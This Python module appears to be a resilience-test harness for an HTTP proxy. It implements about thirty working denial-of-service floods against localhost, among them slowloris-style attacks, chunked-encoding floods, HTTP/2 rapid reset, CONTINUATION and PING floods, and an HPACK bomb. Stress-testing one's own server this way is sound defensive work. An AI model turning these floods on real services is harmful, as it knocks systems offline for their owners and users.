"""What callers may do to a proxy: floods of connections, bytes and frames.

Each attack runs in a process of its own until its time is over, and returns what became of its
connections. An attacker whose connection is closed comes again at once.
"""

import contextlib
import re
import selectors
import socket
import struct
import subprocess
import time

CALL = "/openapi/v1/account/info?account_id=1"
HEAD = f"GET {CALL} HTTP/1.1\r\nHost: localhost\r\n"
UPLOAD = f"POST {CALL} HTTP/1.1\r\nHost: localhost\r\n"

DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MANY = 1 << 20


class Flood:
    """Connections that write `first` and then `again`, over and over, as fast as they are read."""

    def __init__(self, connections, first, again=b"", reads=True, pause=0.0):
        self.connections, self.first, self.again = connections, first, again
        self.reads, self.pause = reads, pause
        self.counts = {"opened": 0, "closed by it": 0, "answers": 0, "MB sent": 0}

    def run(self, port, seconds):
        end = time.monotonic() + seconds
        with selectors.DefaultSelector() as selector:
            for _ in range(self.connections):
                self.open(selector, port)
            while time.monotonic() < end:
                for key, ready in selector.select(0.1):
                    if not self.serve(key.fileobj, key.data, ready):
                        selector.unregister(key.fileobj)
                        key.fileobj.close()
                        self.counts["closed by it"] += 1
                        self.open(selector, port)
                if self.pause:
                    time.sleep(self.pause)
            for key in list(selector.get_map().values()):
                key.fileobj.close()
        self.counts["MB sent"] = round(self.counts["MB sent"] / 1e6, 1)
        return self.counts

    def open(self, selector, port):
        connection = socket.socket()
        connection.setblocking(False)
        connection.connect_ex(("127.0.0.1", port))
        self.counts["opened"] += 1
        events = selectors.EVENT_WRITE | (selectors.EVENT_READ if self.reads else 0)
        selector.register(connection, events, [memoryview(self.first), True])

    def serve(self, connection, state, ready):
        try:
            if ready & selectors.EVENT_READ:
                read = connection.recv(1 << 18)
                if not read:
                    return False
                self.counts["answers"] += read.count(b"HTTP/1.1 ")
            if ready & selectors.EVENT_WRITE:
                if not state[0]:
                    if not self.again:
                        # Nothing more to say: it waits to be closed.
                        time.sleep(0.001)
                        return True
                    state[0] = memoryview(self.again)
                sent = connection.send(state[0])
                self.counts["MB sent"] += sent
                state[0] = state[0][sent:]
        except BlockingIOError:
            return True
        except OSError:
            return False
        return True


# --- Connections ---


def idle_connections(port, seconds):
    """12,000 that say nothing."""
    held, refused = [], 0
    end = time.monotonic() + seconds
    while len(held) < 12000 and time.monotonic() < end:
        connection = socket.socket()
        connection.settimeout(1)
        try:
            connection.connect(("127.0.0.1", port))
            connection.setblocking(False)
            held.append(connection)
        except OSError:
            refused += 1
            connection.close()
    time.sleep(max(0.0, end - time.monotonic()))
    cut = 0
    for connection in held:
        try:
            connection.recv(4096)
            cut += 1
        except BlockingIOError:
            pass
        except OSError:
            cut += 1
        connection.close()
    return {"opened": len(held), "not accepted": refused, "closed by it": cut}


def connect_and_close(port, seconds):
    """As many as it takes, each closed at once, every second with a reset."""
    end, opened = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        for _ in range(100):
            connection = socket.socket()
            connection.settimeout(1)
            with contextlib.suppress(OSError):
                connection.connect(("127.0.0.1", port))
                opened += 1
                if opened % 2:
                    connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            connection.close()
    return {"opened": opened}


def ask_and_leave(port, seconds):
    """A request on a new connection, and away before the answer."""
    end, opened = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        for _ in range(100):
            connection = socket.socket()
            connection.settimeout(1)
            with contextlib.suppress(OSError):
                connection.connect(("127.0.0.1", port))
                connection.sendall((HEAD + "\r\n").encode())
                opened += 1
            connection.close()
    return {"opened": opened}


def slow_bodies(port, seconds):
    """As slowhttptest -B, whose requests look like a web page's and are refused as such."""
    end, held = time.monotonic() + seconds, []
    for _ in range(1000):
        connection = socket.create_connection(("127.0.0.1", port))
        connection.sendall((UPLOAD + "Content-Length: 8192\r\n\r\nx").encode())
        held.append(connection)
    cut = set()
    while time.monotonic() < end:
        time.sleep(max(0.0, min(2.0, end - time.monotonic())))
        for connection in held:
            try:
                connection.sendall(b"x")
            except OSError:
                cut.add(connection)
    for connection in held:
        connection.close()
    return {"opened": len(held), "closed by it": len(cut)}


# --- slowhttptest ---


def slowhttptest(*options):
    def run(port, seconds):
        command = ["slowhttptest", *options, "-l", str(int(seconds)), "-p", "3", "-v", "1"]
        with subprocess.Popen(command + ["-u", f"http://127.0.0.1:{port}{CALL}"],
                              stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True) as process:
            said = process.stdout.read()
        said = re.sub(r"\x1b\[[0-9;]*m", "", said)
        counts = re.findall(r"^(connected|error|closed|pending):\s+(\d+)", said, re.M)
        found = {name: int(count) for name, count in counts}
        return {"open at the end": found.get("connected"), "closed": found.get("closed")}

    return run


# --- HTTP/1 ---


def many_fields():
    fields = "".join(f"X-{number}: {'v' * 500}\r\n" for number in range(100))
    return Flood(64, (HEAD + fields + "\r\n").encode() * 8, (HEAD + fields + "\r\n").encode() * 8)


def endless_head():
    return Flood(64, (HEAD + "X-Long: ").encode(), b"x" * MANY)


def endless_target():
    return Flood(64, b"GET /", b"x" * MANY)


def single_byte_chunks():
    return Flood(16, (UPLOAD + "Transfer-Encoding: chunked\r\n\r\n").encode(), b"1\r\nx\r\n" * 50000)


def chunk_extensions():
    line = b"1;" + b"a" * 250 + b"\r\nx\r\n"
    return Flood(16, (UPLOAD + "Transfer-Encoding: chunked\r\n\r\n").encode(), line * 4000)


def endless_extension():
    return Flood(64, (UPLOAD + "Transfer-Encoding: chunked\r\n\r\n1;").encode(), b"a" * MANY)


def trailers():
    fields = b"".join(b"X-%d: 1\r\n" % number for number in range(200))
    return Flood(64, (UPLOAD + "Transfer-Encoding: chunked\r\n\r\n0\r\n").encode(), fields * 100)


def pipelining_unread():
    return Flood(64, b"", (HEAD + "\r\n").encode() * 2000, reads=False)


# --- HTTP/2 without TLS ---


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def block(more=b""):
    path = CALL.encode()
    head = b"\x82\x86\x04" + bytes([len(path)]) + path + b"\x01\x09localhost"
    return head + more


def begin(settings=b""):
    return PREFACE + frame(SETTINGS, 0, 0, settings) + frame(SETTINGS, 1, 0)


def rapid_reset():
    """Each stream reset in the frame after its request."""
    streams = range(1, 200001, 2)
    cancel = struct.pack(">I", 8)
    ask = END_STREAM | END_HEADERS
    frames = [frame(HEADERS, ask, at, block()) + frame(RST, 0, at, cancel) for at in streams]
    return Flood(4, begin() + b"".join(frames))


def paced_resets(port, seconds):
    """A hundred requests at a time, and a moment later a hundred resets."""
    counts = {"opened": 0, "closed by it": 0, "streams": 0}
    end, cancel = time.monotonic() + seconds, struct.pack(">I", 8)
    while time.monotonic() < end:
        with socket.create_connection(("127.0.0.1", port)) as connection:
            connection.settimeout(1)
            counts["opened"] += 1
            with contextlib.suppress(OSError):
                connection.sendall(begin())
                at = 1
                while time.monotonic() < end:
                    streams = range(at, at + 200, 2)
                    asks = [frame(HEADERS, END_STREAM | END_HEADERS, s, block()) for s in streams]
                    connection.sendall(b"".join(asks))
                    time.sleep(0.002)
                    connection.sendall(b"".join(frame(RST, 0, s, cancel) for s in streams))
                    at += 200
                    counts["streams"] += 100
                    connection.setblocking(False)
                    read = None
                    with contextlib.suppress(BlockingIOError):
                        while read := connection.recv(1 << 18):
                            pass
                    connection.settimeout(1)
                    if read == b"":
                        counts["closed by it"] += 1
                        break
    return counts


def continuation():
    first = frame(HEADERS, END_STREAM, 1, block())
    return Flood(16, begin() + first, frame(CONTINUATION, 0, 1, b"\x00\x03x-a\x01b" * 2000) * 60)


def small_continuations():
    first = frame(HEADERS, END_STREAM, 1, block())
    return Flood(16, begin() + first, frame(CONTINUATION, 0, 1) * 100000)


def pings():
    return Flood(16, begin(), frame(PING, 0, 0, b"12345678") * 60000)


def settings():
    return Flood(16, begin(), frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 60000)


def priorities():
    return Flood(16, begin(), frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 16)) * 60000)


def windows():
    """Of the connection, so little that it never overflows."""
    return Flood(16, begin(), frame(WINDOW, 0, 0, struct.pack(">I", 1)) * 60000)


def open_upload():
    head = b"\x83\x86\x04" + bytes([len(CALL)]) + CALL.encode() + b"\x01\x09localhost"
    return begin() + frame(HEADERS, END_HEADERS, 1, head)


def empty_data():
    return Flood(16, open_upload(), frame(DATA, 0, 1) * 100000)


def single_byte_data():
    return Flood(16, open_upload(), frame(DATA, 0, 1, b"x") * 60000)


def hpack_bomb():
    """One field of 4,000 bytes in the table, and then a byte for each time that it comes again."""
    plant = b"\x40\x01x" + b"\x7f" + bytes([4000 - 127 & 127 | 128, 4000 - 127 >> 7]) + b"v" * 4000
    streams = range(1, 20001, 2)
    ask = END_STREAM | END_HEADERS
    first = frame(HEADERS, ask, 1, block(plant))
    bombs = [frame(HEADERS, ask, at, block(b"\xbe" * 16000)) for at in streams[1:400]]
    return Flood(8, begin() + first + b"".join(bombs))


def large_fields():
    """Heads over the limit, one after the other."""
    streams = range(1, 401, 2)
    length = b"\x7f" + bytes([16000 - 127 & 127 | 128, 16000 - 127 >> 7])
    field = b"\x00\x01x" + length + b"v" * 16000
    ask = [frame(HEADERS, END_STREAM, at, block()) + frame(CONTINUATION, 0, at, field) * 5
           + frame(CONTINUATION, END_HEADERS, at) for at in streams]
    return Flood(8, begin() + b"".join(ask))


def no_window():
    """As many answers as may be open, and no room for any."""
    streams = range(1, 513, 2)
    target = "/big"
    head = b"\x82\x86\x04" + bytes([len(target)]) + target.encode() + b"\x01\x09localhost"
    asks = b"".join(frame(HEADERS, END_STREAM | END_HEADERS, at, head) for at in streams)
    return Flood(3, begin(struct.pack(">HI", 4, 0)) + asks, pause=0.05)


# Name, what runs, whether it needs HTTP/2.
ATTACKS = {
    "slowhttptest -H (slow headers)": (slowhttptest("-H", "-c", "1000", "-r", "500", "-i", "2"), 1),
    "slowhttptest -B (slow bodies)": (slowhttptest("-B", "-c", "1000", "-r", "500", "-i", "2"), 1),
    "1,000 slow bodies": (slow_bodies, 1),
    "slowhttptest -X (slow reads)": (
        slowhttptest("-X", "-c", "1000", "-r", "500", "-w", "512", "-y", "1024", "-n", "5", "-z", "32", "-k", "3"), 1),
    "slowhttptest -R (ranges)": (slowhttptest("-R", "-c", "500", "-r", "250", "-a", "1", "-b", "3000"), 1),
    "12,000 idle connections": (idle_connections, 1),
    "connect and close": (connect_and_close, 1),
    "ask and leave": (ask_and_leave, 1),
    "101 fields of 500 bytes": (many_fields, 1),
    "an endless header": (endless_head, 1),
    "an endless target": (endless_target, 1),
    "chunks of one byte": (single_byte_chunks, 1),
    "chunk extensions": (chunk_extensions, 1),
    "an endless chunk extension": (endless_extension, 1),
    "trailers": (trailers, 1),
    "pipelining, unread": (pipelining_unread, 1),
    "h2 rapid reset": (rapid_reset, 2),
    "h2 resets after a moment": (paced_resets, 2),
    "h2 CONTINUATION, full": (continuation, 2),
    "h2 CONTINUATION, empty": (small_continuations, 2),
    "h2 PING": (pings, 2),
    "h2 SETTINGS": (settings, 2),
    "h2 PRIORITY": (priorities, 2),
    "h2 WINDOW_UPDATE": (windows, 2),
    "h2 empty DATA": (empty_data, 2),
    "h2 DATA of one byte": (single_byte_data, 2),
    "h2 HPACK bomb": (hpack_bomb, 2),
    "h2 heads over the limit": (large_fields, 2),
    "h2 answers without window": (no_window, 2),
}


def attack(name, port, seconds):
    made = ATTACKS[name][0]
    if made.__code__.co_varnames[: made.__code__.co_argcount] == ("port", "seconds"):
        return made(port, seconds)
    return made().run(port, seconds)
